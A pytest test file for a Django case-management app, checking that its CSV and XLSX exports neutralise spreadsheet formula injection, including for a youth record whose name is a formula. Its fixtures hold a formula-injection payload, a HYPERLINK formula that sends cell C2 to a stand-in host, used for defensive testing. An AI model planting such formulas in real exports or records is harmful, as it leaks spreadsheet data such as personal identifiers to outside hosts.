"""Every export goes through nav_ot.exports, which never lets a cell become a formula."""

import ast
import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cases.models import Youth
from nav_ot.exports import csv_response, write_csv, xlsx_response
from tests.factories import fattet_vedtak, open_case

EVIL = '=HYPERLINK("http://x/?"&C2,"Vis")'
ROOT = Path(__file__).resolve().parent.parent


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_prefixes_are_neutralised_in_csv(prefix):
    out = io.StringIO(newline="")
    write_csv(out, ["navn", "antall", "dato"], [[prefix + "1+1", 3, dt.date(2026, 1, 2)]])
    out.seek(0)
    assert list(csv.reader(out))[1] == ["'" + prefix + "1+1", "3", "2026-01-02"]


def test_csv_response_neutralises_and_keeps_plain_text():
    response = csv_response("x.csv", ["navn", "fnr"], [[EVIL, "12345678901"], ["Ola", "1"]])
    text = response.content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "\n=HYPERLINK" not in text
    assert "Ola;1" in text


def test_xlsx_stores_text_as_inert_text_and_numbers_as_numbers():
    response = xlsx_response("x.xlsx", "Ark", ["navn", "dager"], [[EVIL, 12]])
    sheet = load_workbook(io.BytesIO(response.content)).active
    name, days = sheet.cell(2, 1), sheet.cell(2, 2)
    assert name.data_type == "s" and name.value == "'" + EVIL
    assert days.value == 12 and days.data_type == "n"


@pytest.mark.django_db
def test_indicator_exports_do_not_write_a_youth_named_as_a_formula(
    client, personas, org, guarantee_rules
):
    youth = Youth.objects.create(
        fnr=None,
        first_name='=HYPERLINK("http://x/?"&C2',
        last_name='"Vis")',
        birth_date=dt.date(2004, 5, 5),
    )
    fattet_vedtak(open_case(personas["veileder"], youth=youth), org["bergenhus"], days_ago=40)
    client.force_login(personas["teamleder"])
    url = reverse("cases:indicators")
    text = client.get(url, {"format": "csv"}).content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ";=HYPERLINK" not in text
    sheet = load_workbook(io.BytesIO(client.get(url, {"format": "xlsx"}).content)).active
    names = [c.value for c in sheet["B"] if c.value and "HYPERLINK" in c.value]
    assert names and all(n.startswith("'") for n in names)


def test_no_module_but_the_writer_writes_csv_or_xlsx():
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        if ".venv" in path.parts or "tests" in path.parts or path.name == "exports.py":
            continue
        source = path.read_text()
        for node in ast.walk(ast.parse(source)):
            if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}:
                if isinstance(node.value, ast.Name) and node.value.id == "csv":
                    offenders.append(str(path.relative_to(ROOT)))
            if isinstance(node, ast.ImportFrom) and node.module == "openpyxl":
                if any(alias.name == "Workbook" for alias in node.names):
                    offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
